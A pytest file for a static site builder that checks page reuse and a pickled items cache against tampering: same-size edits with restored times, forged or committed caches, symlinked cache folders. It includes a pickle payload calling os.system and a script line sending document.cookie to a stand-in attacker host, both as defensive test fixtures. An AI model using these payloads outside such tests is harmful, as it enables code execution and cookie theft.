"""Attacks on the reuse of unchanged pages (pipeline/site/reuse.py) and on the parsed-items cache
(pipeline/itemcache.py) of a site build: a page of the output hand-edited with its status restored, a
photo or an item swapped keeping size and modification time, a forged or committed cache file.

What a build writes must be, byte for byte, what a build from nothing writes from the same inputs.
"""

from __future__ import annotations

import io
import os
import pickle
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml
from PIL import Image, ImageOps

from pipeline.cachedir import CACHE_DIRNAME, ITEMS_CACHE
from pipeline.config import load_config
from pipeline.content import load_site
from pipeline.itemcache import _ALLOWED, FORMAT, MAGIC, PickledFile, context_digest
from pipeline.site import build_site
from tests.test_site_build import load, make_site, tree_hash

PAGE = "siaran-pers/2025/pelatihan-bumkal/index.html"
ITEM = "content/siaran-pers/2025/rapat-koordinasi.md"


def _pages(output: Path) -> dict[str, str]:
    """The sha256 of every file of a site but its search index (Pagefind writes different bytes on every
    run, even from nothing)."""
    return {name: digest for name, digest in tree_hash(output).items() if not name.startswith("pagefind/")}


def _same_as_from_nothing(root: Path, tmp: Path) -> None:
    """The output in ``root/_site`` equals a build from nothing: the same site, in the same place, without
    its caches or previous output (both moved aside, then put back)."""
    built = _pages(root / "_site")
    aside = tmp / "aside"
    aside.mkdir()
    os.rename(root / "_site", aside / "_site")
    os.rename(root / ".warta-cache", aside / ".warta-cache")
    build_site(load(root), root / "_site", reuse_pages=False)
    assert built == _pages(root / "_site")
    shutil.rmtree(root / "_site")
    shutil.rmtree(root / ".warta-cache")
    os.rename(aside / "_site", root / "_site")
    os.rename(aside / ".warta-cache", root / ".warta-cache")
    aside.rmdir()


def _same_length_edit(path: Path, old: bytes, new: bytes, *, in_place: bool) -> None:
    """Change ``old`` to ``new`` (same length) and put the size and modification time back; ``in_place``:
    through the same inode (``r+``), else a new file renamed over it."""
    assert len(old) == len(new)
    before = os.stat(path)
    data = path.read_bytes()
    assert old in data, (path, old)
    if in_place:
        with path.open("r+b") as handle:
            handle.write(data.replace(old, new))
    else:
        other = path.with_name(path.name + ".new")
        other.write_bytes(data.replace(old, new))
        os.replace(other, path)
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    after = os.stat(path)
    assert (after.st_size, after.st_mtime_ns) == (before.st_size, before.st_mtime_ns)
    if in_place:
        assert after.st_ino == before.st_ino


def test_an_output_page_replaced_with_its_size_and_time_restored_is_rendered_again(tmp_path: Path) -> None:
    root = make_site(tmp_path / "site")
    out = root / "_site"
    build_site(load(root), out)
    _same_length_edit(out / PAGE, b"Teks biasa.", b"Teks palsu.", in_place=False)
    again = build_site(load(root), out)
    assert again.reused > 0  # the cache is in use: the page alone was judged changed
    assert b"Teks palsu." not in (out / PAGE).read_bytes()
    _same_as_from_nothing(root, tmp_path)


def test_an_output_page_edited_in_place_with_its_size_and_time_restored_is_rendered_again(tmp_path: Path) -> None:
    root = make_site(tmp_path / "site")
    out = root / "_site"
    build_site(load(root), out)
    build_site(load(root), out)  # a second build: its pages are hard links of the first's
    _same_length_edit(out / PAGE, b"Teks biasa.", b"Teks palsu.", in_place=True)
    build_site(load(root), out)
    assert b"Teks palsu." not in (out / PAGE).read_bytes()


def test_an_item_edited_keeping_its_size_and_time_is_parsed_and_rendered_again(tmp_path: Path) -> None:
    root = make_site(tmp_path / "site")
    out = root / "_site"
    build_site(load(root), out)
    assert (root / CACHE_DIRNAME / ITEMS_CACHE).is_file()  # the parsed items are kept: the attack is on a real cache
    _same_length_edit(root / ITEM, b"Rapat koordinasi triwulan.", b"Rapat koordinasi kuartal..", in_place=True)
    build_site(load(root), out)
    page = (out / "siaran-pers/2025/rapat-koordinasi/index.html").read_text(encoding="utf-8")
    assert "kuartal" in page and "triwulan" not in page
    _same_as_from_nothing(root, tmp_path)


def test_a_photo_swapped_keeping_its_size_and_time_is_processed_again(tmp_path: Path) -> None:
    root = make_site(tmp_path / "site")
    out = root / "_site"
    build_site(load(root), out)
    first = _pages(out)
    photo = root / "content/media/bibit.jpg"
    before = os.stat(photo)
    photo.write_bytes(_other_picture_of_the_same_size(photo.read_bytes()))
    os.utime(photo, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert (os.stat(photo).st_size, os.stat(photo).st_ino) == (before.st_size, before.st_ino)
    build_site(load(root), out)
    changed = {name for name, digest in _pages(out).items() if first.get(name) != digest}
    assert any(name.startswith("media/") for name in changed), sorted(changed)  # the new picture is out
    _same_as_from_nothing(root, tmp_path)


def _other_picture_of_the_same_size(data: bytes) -> bytes:
    """The picture ``data`` with its colours inverted, as a JPEG of exactly ``len(data)`` bytes (padded
    after its end marker, which decoders ignore)."""
    with Image.open(io.BytesIO(data)) as image:
        inverted = ImageOps.invert(image.convert("RGB"))
    for quality in range(95, 5, -5):
        buffer = io.BytesIO()
        inverted.save(buffer, "JPEG", quality=quality)
        made = buffer.getvalue()
        if len(made) <= len(data):
            return made + b"\0" * (len(data) - len(made))
    raise AssertionError("no smaller picture")


def _forge_items_cache(root: Path, title: str) -> None:
    """Rewrite ``.warta-cache/items/parsed.pickle`` as this run would write it (right header and
    context), but with every kept item's title changed: what an attacker able to write the file does."""
    file = root / CACHE_DIRNAME / ITEMS_CACHE
    store = PickledFile(file, MAGIC, FORMAT, context_digest(load_config(root)), _ALLOWED)
    entries = store.load()
    assert entries, "the first build kept no parsed item"
    forged = {}
    for key, entry in entries.items():
        parts = list(entry)
        for n, part in enumerate(parts):
            if hasattr(part, "title") and hasattr(part, "model_copy"):
                parts[n] = part.model_copy(update={"title": title})
        forged[key] = tuple(parts)
    assert forged != entries
    store.save(forged)


def test_a_committed_items_cache_is_never_read(tmp_path: Path) -> None:
    """An operator commits a forged ``.warta-cache/items/parsed.pickle``, valid in every way but where it
    comes from: the build never believes it."""
    root = make_site(tmp_path / "site")
    build_site(load(root), tmp_path / "first")
    _forge_items_cache(root, "Judul Palsu")
    git = ["git", "-c", "user.name=x", "-c", "user.email=x@x", "-C", str(root)]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "-A", "-f"], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "cache"], check=True)
    assert ITEMS_CACHE in subprocess.run([*git, "ls-files"], check=True, capture_output=True, text=True).stdout
    committed = _files(root / CACHE_DIRNAME)
    site = load(root)
    assert all(i.meta.title != "Judul Palsu" for i in site.items)
    # the build, which reads caches of its own, keeps them in the git directory instead and still builds
    built = build_site(site, tmp_path / "out")
    assert built.pages and "Judul Palsu" not in _text_of(tmp_path / "out")
    assert _files(root / CACHE_DIRNAME) == committed  # nothing read through, nothing written into it
    assert (root / ".git" / "warta-cache" / ITEMS_CACHE).is_file()


def _files(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def _text_of(folder: Path) -> str:
    return "".join(p.read_text(encoding="utf-8") for p in sorted(folder.rglob("*.html")))


def test_a_linked_items_cache_folder_is_never_read(tmp_path: Path) -> None:
    root = make_site(tmp_path / "site")
    build_site(load(root), tmp_path / "first")
    _forge_items_cache(root, "Judul Palsu")
    os.rename(root / ".warta-cache", tmp_path / "elsewhere")
    os.symlink(tmp_path / "elsewhere", root / ".warta-cache")
    linked = _files(tmp_path / "elsewhere")
    assert all(i.meta.title != "Judul Palsu" for i in load(root).items)
    built = build_site(load(root), tmp_path / "out")  # not a repository: an empty folder for this run
    assert built.pages and "Judul Palsu" not in _text_of(tmp_path / "out")
    assert _files(tmp_path / "elsewhere") == linked  # never read or written through the link


class _Boom:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, ("touch PWNED",))


def test_a_forged_items_cache_that_would_run_code_runs_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A pickle with the right header whose entry calls ``os.system``: the restricted unpickler refuses
    it, the file is ignored whole and every item parsed afresh."""
    root = make_site(tmp_path / "site")
    monkeypatch.chdir(tmp_path)
    store = PickledFile(root / CACHE_DIRNAME / ITEMS_CACHE, MAGIC, FORMAT, context_digest(load_config(root)), _ALLOWED)
    body = pickle.dumps({b"k" * 32: (_Boom(),)}, protocol=pickle.HIGHEST_PROTOCOL)
    (root / CACHE_DIRNAME / ITEMS_CACHE).parent.mkdir(parents=True)
    (root / CACHE_DIRNAME / ITEMS_CACHE).write_bytes(store.header(body) + body)
    assert store.load() == {}
    site = load(root)
    assert not (tmp_path / "PWNED").exists() and not (root / "PWNED").exists()
    assert len(site.items) == len([p for p in (root / "content").rglob("*.md")])


def test_a_search_script_edited_in_the_output_is_not_kept_for_later_builds(tmp_path: Path) -> None:
    """Was broken: the kept Pagefind bundles were hard links of the site's files, so an in-place write to
    ``_site/pagefind/2025/pagefind.js`` changed the kept bundle and every later build served it (fixed in
    pipeline/site/search.py: bundles are copied both ways)."""
    root = make_site(tmp_path / "site")
    out = root / "_site"
    build_site(load(root), out)
    script = out / "pagefind/2025/pagefind.js"
    assert script.is_file()
    with script.open("ab") as handle:  # written in place, as `echo ... >> file` does
        handle.write(b"\nfetch('https://penyerang.example/'+document.cookie);\n")
    build_site(load(root), out)  # nothing changed: every bundle is taken from the cache
    assert b"penyerang.example" not in (out / "pagefind/2025/pagefind.js").read_bytes()


def test_a_picture_edited_in_the_output_is_not_kept_for_later_builds(tmp_path: Path) -> None:
    """Was broken: pipeline/media/cache.py's place() hard-linked each derivative from
    .warta-cache/media/derivatives/ into the output, one inode for both, so an in-place write to
    _site/media/... rewrote the kept derivative and every later build served it (fixed: copied)."""
    root = make_site(tmp_path / "site")
    out = root / "_site"
    build_site(load(root), out)
    pictures = sorted(p for p in (out / "media").rglob("*") if p.is_file())
    assert pictures
    honest = {p.relative_to(out): p.read_bytes() for p in pictures}
    with pictures[0].open("r+b") as handle:  # written in place: another picture, as far as anyone can tell
        handle.write(b"\0" * 64)
    build_site(load(root), out)  # nothing changed
    assert {p: (out / p).read_bytes() for p in honest} == honest


def _findings(root: Path) -> list[str]:
    site = load_site(root, load_config(root))
    found = [*site.findings.errors, *site.findings.warnings]
    return sorted(f"{f.path}:{f.line}:{f.field}:{f.severity}:{f.message}" for f in found)


@pytest.mark.parametrize("swap", ["outside", "missing", "folder"])
def test_a_kept_item_whose_photo_became_a_link_reports_as_without_the_cache(tmp_path: Path, swap: str) -> None:
    """The parsed-items cache keeps an item whose photo was a regular file; the photo is then replaced by a
    symbolic link to a file outside the site, removed, or made a folder: the item's findings are those of
    a run without the cache."""
    root = make_site(tmp_path / "site")
    build_site(load(root), root / "_site")
    assert (root / CACHE_DIRNAME / ITEMS_CACHE).is_file()
    photo = root / "content/media/bibit.jpg"
    outside = tmp_path / "rahasia.jpg"
    shutil.copyfile(photo, outside)
    photo.unlink()
    if swap == "outside":
        photo.symlink_to(outside)
    elif swap == "folder":
        photo.mkdir()
    with_cache = _findings(root)
    copy = tmp_path / "nocache"
    shutil.copytree(root, copy, symlinks=True, ignore=shutil.ignore_patterns(".warta-cache", "_site"))
    without = [line.replace(str(copy), str(root)) for line in _findings(copy)]
    assert with_cache == without
    assert any("bibit.jpg" in line for line in with_cache)  # the broken reference is reported at all


def test_a_kept_item_over_a_limit_tightened_in_warta_yml_is_refused(tmp_path: Path) -> None:
    """An item parsed and kept under one warta.yml; warta.yml then lowers the largest body below it: the
    item is refused with its finding, as without the cache (the cache's context is the configuration)."""
    root = make_site(tmp_path / "site")
    long = root / "content/siaran-pers/2025/panjang.md"
    long.write_text("---\ntitle: Rilis Panjang\ndate: 2025-06-01\n---\n" + "Kalimat panjang. " * 120 + "\n",
                    encoding="utf-8")
    assert any(i.path == "content/siaran-pers/2025/panjang.md" for i in load(root).items)
    assert (root / CACHE_DIRNAME / ITEMS_CACHE).is_file()
    config = yaml.safe_load((root / "warta.yml").read_text(encoding="utf-8"))
    config["limits"] = {**config.get("limits", {}), "body_bytes": 1024}
    (root / "warta.yml").write_text(yaml.safe_dump(config, allow_unicode=True, sort_keys=False), encoding="utf-8")
    site = load_site(root, load_config(root))
    assert all(i.path != "content/siaran-pers/2025/panjang.md" for i in site.items)
    assert any(f.path == "content/siaran-pers/2025/panjang.md" for f in site.findings.errors)
